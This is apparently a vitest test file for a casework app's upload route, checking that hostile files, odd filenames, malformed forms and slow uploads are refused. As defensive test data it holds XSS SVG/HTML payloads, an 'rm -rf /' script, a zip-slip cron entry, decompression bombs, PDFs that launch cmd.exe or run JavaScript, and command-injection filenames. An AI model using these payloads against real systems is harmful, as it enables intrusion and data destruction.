import { createHash, randomBytes } from 'node:crypto'
import { readdir, readFile } from 'node:fs/promises'
import { createServer, connect, type AddressInfo } from 'node:net'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { zipSync } from 'fflate'
import sharp from 'sharp'
import { afterAll, describe, expect, it } from 'vitest'
import { clamdAt, type Scan } from '../../platform/files/scan.ts'
import { openHouse } from '../../platform/testing/house.ts'
import { pdf, png } from '../../platform/testing/made-up-files.ts'
import { formOn, inParts, type Chosen } from '../../platform/testing/visitor.ts'

let scan: Scan = async () => 'clean'
const house = await openHouse({ scan: body => scan(body) })
const [cora, amara, gwen] = [await house.as('cora'), await house.as('amara'), await house.as('gwen')]
await cora.send('/enquiries/new', { channel: 'phone', surname: 'Ollerenshaw', line1: 'Quarry Street', postcode: 'ZE1 1AA' }).then(async taken => amara.send(`${taken.headers.location}/open-cases`, { pathways: ['handyperson'], owner: await house.userId('amara') }))
const [{ reference }] = await house.sql<{ reference: string }>("select reference from cases where person_name = 'Ollerenshaw'") as [{ reference: string }]
const at = `/cases/${reference}/documents/add`

const documents = async (): Promise<number> => (await house.sql<{ n: number }>('select count(*)::int as n from documents'))[0]!.n
const last = async () => (await house.sql<{ id: string; sha256: string; bytes: number; media_type: string }>('select id, sha256, bytes, media_type from documents order by id desc limit 1'))[0]!
const sum = (body: Buffer): string => createHash('sha256').update(body).digest('hex')
const onDisk = async (): Promise<string[]> => (await readdir(house.filesFolder, { recursive: true, withFileTypes: true })).filter(one => one.isFile()).map(one => join(one.parentPath, one.name)).sort()
const said = (html: string): string => /<ul class="govuk-list govuk-error-summary__list">([\s\S]*?)<\/ul>/.exec(html)?.[1]?.replace(/<[^>]+>/g, ' ').trim() ?? ''
const send = (body: Buffer, name = 'file.pdf', type = 'application/pdf') => amara.sendFiles(at, { kind: 'evidence', what: `Sent as ${name.replace(/[^\w.]/g, '').slice(0, 100)}` }, { file: { name, type, body } })
const jpeg = (width = 60, height = 40): Promise<Buffer> => sharp({ create: { width, height, channels: 3, background: '#7788aa' } }).withExif({ IFD0: { Make: 'Telephone', ImageDescription: 'At 12 Quarry Street' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 12/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '2/1 13/1 0/1' } }).jpeg().toBuffer()
/** In pieces, so that this file is not itself taken for what it holds. */
const eicar = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join(''))
const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>')
const html = Buffer.from('<!doctype html><script>alert(1)</script>')

const neither = 'The file must be a PDF, or a JPEG, PNG or WebP picture. Save a Word document as a PDF first'
const notWhole = 'The picture could not be opened: it is damaged or not whole. Open it yourself, save it again and choose it again'
const runs = 'The PDF holds something that runs, sends or opens files on its reader’s machine. Print it to a new PDF, which leaves that out, and choose that'
const packed = (text: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): string => { const body = deflateSync(Buffer.from(text)); return `<< ${dictionary} /Length ${body.length} >>\nstream\n${body.toString('latin1')}\nendstream` }
const plain = pdf(['Nothing else'])
const bomb = packed('0 0 '.padEnd(40 << 20, ' '))

/** What is sent, called and said to be what, and the sentence it is refused with. */
const hostile: readonly (readonly [what: string, body: () => Buffer | Promise<Buffer>, sentence: string, name?: string, type?: string])[] = [
  ['an SVG with a script in it', () => svg, neither, 'drawing.svg', 'image/svg+xml'],
  ['an SVG that says it is a PNG', () => svg, neither, 'drawing.png', 'image/png'],
  ['a web page that says it is a PDF', () => html, neither],
  ['a web page that says it is a JPEG', () => html, neither, 'photo.jpg', 'image/jpeg'],
  ['a web page behind blanks', () => Buffer.concat([Buffer.alloc(600, 32), html]), neither, 'page.pdf'],
  ['a web page that begins like a GIF', () => Buffer.concat([Buffer.from('GIF89a/*'), html]), neither, 'a.gif', 'image/gif'],
  ['a PDF that begins late', () => Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), plain]), neither],
  ['a program', () => Buffer.concat([Buffer.from('MZ'), randomBytes(2000)]), neither, 'quote.pdf.exe', 'application/x-msdownload'],
  ['a program of another kind', () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), randomBytes(2000)]), neither, 'quote.pdf'],
  ['a script', () => Buffer.from('#!/bin/sh\nrm -rf /\n'), neither, 'quote.pdf'],
  ['a zip', () => Buffer.from(zipSync({ 'a.txt': Buffer.from('a') })), neither, 'all.zip', 'application/zip'],
  ['a zip that would be written elsewhere', () => Buffer.from(zipSync({ '../../../../etc/cron.d/x': Buffer.from('* * * * * root id') })), neither, 'letter.docx'],
  ['a zip bomb that says it is a letter', () => Buffer.from(zipSync({ 'word/document.xml': new Uint8Array(30 << 20) })), neither, 'letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ['a virus in a zip in a zip', () => Buffer.from(zipSync({ 'b.zip': zipSync({ 'eicar.com': eicar }) })), neither, 'b.zip'],
  ['a virus by itself', () => eicar, neither, 'eicar.com'],
  ['plain words', () => Buffer.from('Dear Sir or Madam'), neither, 'letter.txt', 'text/plain'],
  ['an Apple picture', () => Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic'), randomBytes(900)]), 'This is an Apple HEIC picture, which other machines cannot open. Save it as a JPEG and choose it again', 'IMG_1.HEIC', 'image/heic'],
  ['a picture that says it is enormous', () => png(1, 1, [0, 0, 0], { width: 60_000, height: 60_000 }), 'The picture is too large: a side of it is 60,000 dots long. Save it smaller and choose it again', 'bomb.png', 'image/png'],
  ['a picture that says it is very large', () => png(1, 1, [0, 0, 0], { width: 20_000, height: 20_000 }), 'The picture is too large: it has 400 million dots, and the most is 50 million. Save it smaller and choose it again', 'bomb.png', 'image/png'],
  ['a picture that is long beyond reason', () => png(1, 1, [0, 0, 0], { width: 1_000_000, height: 20 }), 'The picture is too large: a side of it is 1,000,000 dots long. Save it smaller and choose it again', 'long.png', 'image/png'],
  ['a picture that is not whole', async () => (await jpeg(900, 900)).subarray(0, 1500), notWhole, 'half.jpg', 'image/jpeg'],
  ['a picture of nothing but its first bytes', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0]), notWhole, 'a.jpg', 'image/jpeg'],
  ['noise that begins like a picture', () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(5000)]), notWhole, 'a.png', 'image/png'],
  ['noise that begins like a WebP', () => Buffer.concat([Buffer.from('RIFF\x10\x27\0\0WEBPVP8 '), randomBytes(5000)]), notWhole, 'a.webp', 'image/webp'],
  ['a PDF with a script that runs when it is opened', () => pdf(['x'], { root: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ' }), runs],
  ['a PDF whose script is spelt in figures', () => pdf(['x'], { root: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ' }), runs],
  ['a PDF that starts a program', () => pdf(['x'], { root: '/OpenAction << /S /Launch /F (cmd.exe) >> ' }), runs],
  ['a PDF that sends what is typed into it away', () => pdf(['x'], { root: '/OpenAction << /S /SubmitForm /F (http://example.org) >> ' }), runs],
  ['a PDF with files in it', () => pdf(['x'], { root: '/Names << /EmbeddedFiles << /Names [] >> >> ' }), runs],
  ['a PDF with a film in it', () => pdf(['x'], { more: ['<< /Subtype /RichMedia >>'] }), runs],
  ['a PDF with a form that is a program', () => pdf(['x'], { root: '/AcroForm << /XFA [] >> ' }), runs],
  ['a PDF that keeps its script packed', () => pdf(['x'], { more: [packed('9 0 << /S /JavaScript /JS (app.alert(1)) >>')] }), runs],
  ['a PDF that hides its script where a stream only seems to be', () => pdf(['x'], { more: ['<< /Length 40 >>\nstream\nx endstream >>stream\n', '<< /S /JavaScript /JS (app.alert(1)) >>\nendstream'] }), runs],
  ['a PDF that keeps something packed where a stream only seems to be', () => pdf(['x'], { more: ['<< /Length 40 >>\nstream\nx endstream >>stream\n', packed('9 0 << /JS (app.alert(1)) >>')] }), 'The PDF cannot be read through. Print it to a new PDF and choose that'],
  ['a PDF that unpacks to forty megabytes', () => pdf(['x'], { more: [bomb] }), 'The PDF cannot be read through. Print it to a new PDF and choose that'],
  ['a PDF that is packed in a way of its own', () => pdf(['x'], { more: [packed('9 0 <<>>', '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]')] }), 'The PDF cannot be read through. Print it to a new PDF and choose that'],
  ['a PDF that is locked', () => pdf(['x'], { more: ['<< /Encrypt 9 0 R >>'] }), 'The PDF is locked with a password, so it cannot be checked. Print it to a new PDF without one and choose that'],
  ['a PDF that is a zip too', () => Buffer.concat([plain, Buffer.from(zipSync({ 'a.html': html }))]), 'The PDF has something else hidden behind it. Print it to a new PDF and choose that'],
  ['a PDF that is a web page too', () => Buffer.concat([plain, html]), 'The PDF has something else hidden behind it. Print it to a new PDF and choose that'],
  ['half a PDF', () => plain.subarray(0, 200), 'The PDF is not whole: its end is missing. Save it again and choose it again'],
  ['a file of nothing', () => Buffer.alloc(0), 'The file is empty. Choose another'],
  ['a file of eleven megabytes', () => Buffer.concat([plain, Buffer.alloc(11 << 20, 32)]), 'The file must be 10 MB or smaller', 'large.pdf'],
]

describe('a file that could do harm', { timeout: 120_000 }, () => {
  for (const [what, body, sentence, name, type] of hostile)
    it(`is refused with a sentence: ${what}`, async () => {
      const before = [await documents(), await onDisk()]
      const answer = await send(await body(), name, type)
      expect([answer.statusCode, said(answer.body)]).toEqual([422, sentence])
      expect(answer.body).toContain('value="Sent as')
      expect([await documents(), await onDisk()]).toEqual(before)
    })

  it('is refused quickly when it says that it is enormous', async () => {
    const [huge, began] = [png(1, 1, [0, 0, 0], { width: 60_000, height: 60_000 }), performance.now()]
    const { drawnAnew } = await import('../../platform/files/pictures.ts')
    expect(await drawnAnew(huge, 'image/png')).toHaveProperty('refused')
    expect(performance.now() - began).toBeLessThan(500)
  })

  it('is refused when the scanner finds something, and when it cannot be asked', async () => {
    scan = async () => 'infected'
    expect(said((await send(plain)).body)).toBe('The file holds a virus, or something like one, so it was not kept. Tell whoever looks after your computers')
    scan = async () => 'not asked'
    const answer = await send(plain)
    expect([answer.statusCode, said(answer.body)]).toEqual([422, 'The file could not be checked for viruses just now, so it was not kept. Try again in a few minutes'])
    expect(answer.body).not.toContain('We have the file')
    scan = async () => 'clean'
  })
})

describe('a picture', () => {
  it('is drawn anew: where it was taken, with what and what it was called are gone', async () => {
    const before = await jpeg()
    expect(before.includes('Quarry Street')).toBe(true)
    expect((await sharp(before).metadata()).exif).toBeDefined()
    expect((await send(before, 'Mrs Ollerenshaw.jpg', 'image/jpeg')).statusCode).toBe(303)
    const kept = (await amara.get(`/documents/${(await last()).id}/file`)).rawPayload
    const now = await sharp(kept).metadata()
    expect([now.format, now.width, now.height, now.exif, now.xmp, now.iptc, kept.includes('Quarry')]).toEqual(['jpeg', 60, 40, undefined, undefined, undefined, false])
    expect((await onDisk()).every(path => /\/[0-9a-f]{2}\/[0-9a-f]{64}$/.test(path))).toBe(true)
  })

  it('stands upright, as the telephone meant it', async () => {
    const lying = await sharp({ create: { width: 80, height: 20, channels: 3, background: '#224466' } }).withMetadata({ orientation: 6 }).jpeg().toBuffer()
    await send(lying, 'a.jpg', 'image/jpeg')
    const now = await sharp((await amara.get(`/documents/${(await last()).id}/file`)).rawPayload).metadata()
    expect([now.width, now.height, now.orientation]).toEqual([20, 80, undefined])
  })

  it('is no larger than it need be', async () => {
    await send(png(6000, 300, [10, 20, 30]), 'wide.png', 'image/png')
    const now = await sharp((await amara.get(`/documents/${(await last()).id}/file`)).rawPayload).metadata()
    expect([now.width, now.height]).toEqual([4000, 200])
  })

  it('loses whatever was hidden behind it', async () => {
    const both = Buffer.concat([png(12, 12, [90, 0, 0]), Buffer.from(zipSync({ 'a.html': html })), html])
    expect((await send(both, 'both.png', 'image/png')).statusCode).toBe(303)
    const kept = (await amara.get(`/documents/${(await last()).id}/file`)).rawPayload
    expect([kept.includes('script'), kept.includes('PK'), sum(kept) === sum(both)]).toEqual([false, false, false])
  })

  it('is what it is, whatever it is called and said to be', async () => {
    expect((await send(png(13, 12, [0, 90, 0]), 'quote.pdf', 'application/pdf')).statusCode).toBe(303)
    expect((await last()).media_type).toBe('image/png')
    expect((await amara.get(`/documents/${(await last()).id}/file`)).headers['content-disposition']).toMatch(/\.png"$/)
  })
})

describe('a file with a strange name', () => {
  it('is kept under its own sum, wherever its name points', async () => {
    const names = ['../../../etc/passwd', '..%2f..%2fsecrets', '..\\\\..\\\\windows', '/etc/cron.d/x', 'x'.repeat(300), '\u202egpj.exe', 'a\0.pdf', 'con', '.htaccess', '-rf', '; rm -rf /', '<img src=x onerror=alert(1)>.pdf', 'name="kind"']
    for (const [nth, name] of names.entries()) {
      const answer = await send(pdf([`Number ${nth}`]), name.replaceAll('"', '%22'))
      expect([name, answer.statusCode]).toEqual([name, 303])
    }
    const root = house.filesFolder
    expect((await onDisk()).filter(path => !new RegExp(`^${root}/[a-z0-9-]+/[0-9a-f]{2}/[0-9a-f]{64}$`).test(path))).toEqual([])
    for (const path of await onDisk()) expect(sum(await readFile(path))).toBe(path.split('/').at(-1))
    expect((await amara.get(at.replace('/add', ''))).body).not.toContain('<img src=x')
  })
})

describe('a form in parts that is not a form of ours', () => {
  const typed = async () => ({ ...formOn((await amara.get(at)).body, at), kind: 'photo', what: 'Strange' })
  const file: Chosen = { name: 'a.png', type: 'image/png', body: png(21, 22, [1, 2, 3]) }
  const post = (payload: string | Buffer, type: string) => house.app.inject({ method: 'POST', url: at, headers: { ...amara.headers, 'content-type': type }, payload })
  const leavesNothing = async (work: () => Promise<{ statusCode: number }>, statuses: readonly number[]): Promise<void> => {
    const before = [await documents(), await onDisk()]
    expect(statuses).toContain((await work()).statusCode)
    expect([await documents(), await onDisk()]).toEqual(before)
  }

  it('is refused without its boundary, with another, cut short, empty or not in parts at all', async () => {
    const whole = inParts(await typed(), { file }, 'b')
    await leavesNothing(() => post(whole, 'multipart/form-data'), [400, 403, 406, 415])
    await leavesNothing(() => post(whole, 'multipart/form-data; boundary='), [400, 403, 406, 415])
    await leavesNothing(() => post(whole, 'multipart/form-data; boundary=other'), [400, 403])
    await leavesNothing(() => post(whole.subarray(0, -30), 'multipart/form-data; boundary=b'), [400])
    await leavesNothing(() => post(whole.subarray(0, whole.indexOf('filename') + 60), 'multipart/form-data; boundary=b'), [400])
    await leavesNothing(() => post('', 'multipart/form-data; boundary=b'), [400, 403])
    await leavesNothing(() => post('action=x', 'multipart/form-data; boundary=b'), [400, 403])
    await leavesNothing(() => post(`--b\r\n${'x: y\r\n'.repeat(5000)}\r\n`, 'multipart/form-data; boundary=b'), [400, 403, 413])
    await leavesNothing(() => post(whole, 'multipart/mixed; boundary=b'), [415])
  })

  it('is refused with a question more, an answer twice, two files, or too many parts', async () => {
    const own = await typed()
    await leavesNothing(() => amara.postParts(at, { ...own, role: 'administrator' }, {}), [400])
    await leavesNothing(() => amara.postParts(at, { ...own, kind: ['photo', 'plan'] }, {}), [400])
    await leavesNothing(() => amara.postParts(at, own, { other: file }), [400])
    for (const name of ['__proto__', 'constructor', 'toString']) await leavesNothing(() => amara.postParts(at, own, { [name]: file }), [400])
    await leavesNothing(() => amara.postParts(at, { ...own, what: Array.from({ length: 200 }, () => 'x') }, {}), [400, 413])
    await leavesNothing(() => amara.postParts(at, { ...own, what: 'x'.repeat(200_000) }, {}), [413])
    await leavesNothing(async () => amara.postParts(at, { ...await typed(), what: '\ufffd' }, {}), [400])
  })

  it('is not even read when it comes without its token, from another site, from whoever may not, or from nobody', async () => {
    const own = await typed()
    const { _token, ...rest } = own as Record<string, string>
    expect(_token).toMatch(/^[\w-]{43}$/)
    await leavesNothing(() => amara.postParts(at, rest, { file }), [403])
    await leavesNothing(() => amara.postParts(at, { ...own, _token: 'x'.repeat(43) }, { file }), [403])
    await leavesNothing(() => amara.postParts(at, own, { file }, { origin: 'https://evil.example' }), [403])
    await leavesNothing(() => amara.postParts(at, own, { file }, { 'sec-fetch-site': 'cross-site' }), [403])
    await leavesNothing(() => gwen.postParts(at, own, { file }), [403])
    await leavesNothing(async () => (await house.as('joe')).postParts(at, own, { file }), [403])
    await leavesNothing(async () => (await house.as(undefined)).postParts(at, own, { file }), [401])
  })

  it('is not taken in parts by any other page', async () => {
    const page = `/cases/${reference}/note`
    expect((await amara.postParts(page, { ...formOn((await amara.get(page)).body, page), note: 'In parts' }, {})).statusCode).toBe(415)
  })
})

describe('what is sent by a connection of its own', { timeout: 60_000 }, () => {
  const ends: (() => void)[] = []
  afterAll(() => ends.forEach(end => end()))
  const sentBy = async (head: string, pieces: (write: (part: Buffer | string) => Promise<boolean>) => Promise<void>): Promise<{ heard: string; wrote: number; seconds: number }> => {
    if (!house.app.server.listening) await house.app.listen({ port: 0, host: '127.0.0.1' })
    const { port } = house.app.server.address() as AddressInfo
    const [socket, began] = [connect(port, '127.0.0.1'), Date.now()]
    ends.push(() => socket.destroy())
    let heard = ''
    socket.on('data', part => { heard += part.toString('latin1') })
    socket.on('error', () => undefined)
    const closed = new Promise<void>(done => socket.on('close', () => done()))
    socket.write(`POST ${at} HTTP/1.1\r\nhost: localhost:${port}\r\ncookie: ${amara.headers.cookie}\r\ncontent-type: multipart/form-data; boundary=b\r\n${head}\r\n`)
    await pieces(part => new Promise(done => socket.destroyed ? done(false) : socket.write(part, error => done(!error))))
    await closed
    return { heard, wrote: socket.bytesWritten, seconds: (Date.now() - began) / 1000 }
  }
  const front = async (): Promise<Buffer> => {
    const whole = inParts({ ...formOn((await amara.get(at)).body, at), kind: 'photo', what: 'Endless' }, { file: { name: 'a.png', type: 'image/png', body: Buffer.from('HERE') } }, 'b')
    return whole.subarray(0, whole.indexOf('HERE'))
  }

  it('is refused at once when it says that it is a gigabyte', async () => {
    const { heard, seconds } = await sentBy(`content-length: ${1 << 30}\r\n`, async write => { await write(await front()) })
    expect(heard).toMatch(/^HTTP\/1\.1 413 /)
    expect(seconds).toBeLessThan(5)
  })

  it('is ended when it does not say so and goes on for ever, and the memory does not grow with it', async () => {
    const before = process.memoryUsage().rss
    let most = 0
    const { wrote } = await sentBy('transfer-encoding: chunked\r\n', async write => {
      const chunk = (body: Buffer): Buffer => Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n')])
      if (!await write(chunk(await front()))) return
      const piece = chunk(Buffer.alloc(1 << 18, 'a'))
      for (let n = 0; n < 800; n++) { most = Math.max(most, process.memoryUsage().rss); if (!await write(piece)) return }
    })
    expect(wrote).toBeLessThan(80 << 20)
    expect((most - before) / (1 << 20)).toBeLessThan(100)
    expect((await onDisk()).filter(path => path.includes('/coming/'))).toEqual([])
  })

  it('is ended when it comes a letter at a time', async () => {
    const { seconds } = await sentBy('content-length: 100000\r\n', async write => {
      if (!await write(await front())) return
      for (let n = 0; n < 60; n++) { if (!await write('x')) return; await new Promise(done => setTimeout(done, 400)) }
    })
    expect(seconds).toBeLessThan(20)
    expect((await onDisk()).filter(path => path.includes('/coming/'))).toEqual([])
  })
})

describe('the scanner', () => {
  const clamd = (answer: string | undefined): Promise<{ where: string; heard: Promise<Buffer>; close(): void }> => new Promise(ready => {
    const pieces: Buffer[] = []
    let whole: (body: Buffer) => void
    const heard = new Promise<Buffer>(done => { whole = done })
    const server = createServer(socket => {
      socket.on('error', () => undefined)
      socket.on('data', part => {
        pieces.push(part)
        const all = Buffer.concat(pieces)
        if (all.subarray(-4).equals(Buffer.alloc(4))) { whole(all); if (answer === undefined) socket.destroy(); else socket.end(answer) }
      })
    }).listen(0, '127.0.0.1', () => ready({ where: `127.0.0.1:${(server.address() as AddressInfo).port}`, heard, close: () => server.close() }))
  })

  it('is sent every byte as clamd asks for it, and its answer is believed only when it is clear', async () => {
    for (const [answer, verdict] of [['stream: OK\0', 'clean'], ['stream: Eicar-Signature FOUND\0', 'infected'], ['INSTREAM size limit exceeded. ERROR\0', 'not asked'], ['', 'not asked'], [undefined, 'not asked'], ['stream: OKAY\0', 'not asked']] as const) {
      const there = await clamd(answer)
      const body = randomBytes(150_000)
      expect([answer, await clamdAt(there.where, 2000)(body)]).toEqual([answer, verdict])
      const heard = await there.heard
      expect(heard.subarray(0, 10).toString()).toBe('zINSTREAM\0')
      expect([heard.readUInt32BE(10), heard.length]).toEqual([65_536, 10 + 3 * 4 + 150_000 + 4])
      there.close()
    }
  })

  it('that is not there, or says nothing, was not asked', async () => {
    expect(await clamdAt('127.0.0.1:9', 2000)(plain)).toBe('not asked')
    expect(await clamdAt('/no/such/socket', 2000)(plain)).toBe('not asked')
    const silent = createServer(() => undefined).listen(0, '127.0.0.1')
    await new Promise(done => silent.once('listening', done))
    expect(await clamdAt(`127.0.0.1:${(silent.address() as AddressInfo).port}`, 300)(plain)).toBe('not asked')
    silent.close()
  })
})
